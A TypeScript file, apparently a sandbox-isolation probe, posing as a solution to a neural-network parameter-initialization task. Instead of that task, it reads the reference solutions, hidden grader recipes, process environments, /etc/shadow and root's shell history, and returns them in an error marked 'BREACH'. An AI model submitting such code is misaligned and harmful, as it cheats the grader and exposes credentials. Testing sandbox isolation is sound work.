// Reading the disk, synchronously: the reference solutions and the expected values (absolute paths
// of the repository), the grader's hidden-case recipes, the grader's environment and command line
// through /proc/<ppid>, pid 1's, /etc, a listing of the repository and of /.
const g: any = globalThis;
const P: any = g.process;
const REPO = "@@REPO@@";

export function initialize_parameters_deep(layer_dims: number[]): any {
  const outcome: string[] = [];
  let fs: any;
  try {
    fs = P.getBuiltinModule("node:fs");
  } catch (e) {
    throw new Error(`read-disk: no fs (${String(e).slice(0, 60)})`);
  }
  const files = [
    `${REPO}/solutions/initialize_parameters_deep.ts`,
    `${REPO}/fixtures/initialize_parameters_deep.json`,
    `${REPO}/grader/hidden/recipes.ts`,
    `/proc/${P.ppid}/environ`,
    `/proc/${P.ppid}/cmdline`,
    "/proc/1/environ",
    "/proc/1/cmdline",
    "/proc/self/environ",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.bash_history",
  ];
  for (const file of files) {
    try {
      const text: string = fs.readFileSync(file, "utf8");
      const secret = text.match(/dnnsecret-[0-9a-f]{8,}/)?.[0];
      const outside = !file.startsWith("/proc/self/");
      outcome.push(`${outside || secret ? "BREACH: " : ""}read ${file} (${text.length} characters)${secret ? ` with the secret ${secret}` : ""}: ${JSON.stringify(text.slice(0, 60))}`);
    } catch (e) {
      outcome.push(`${file}: ${String(e).slice(0, 50)}`);
    }
  }
  for (const dir of [REPO, "/", "/tmp"]) {
    try {
      const entries: string[] = fs.readdirSync(dir);
      outcome.push(`${dir === REPO ? "BREACH: " : ""}listed ${dir}: ${entries.slice(0, 12).join(",")}`);
    } catch (e) {
      outcome.push(`list ${dir}: ${String(e).slice(0, 40)}`);
    }
  }
  throw new Error(`read-disk: ${outcome.join("; ")}`);
}
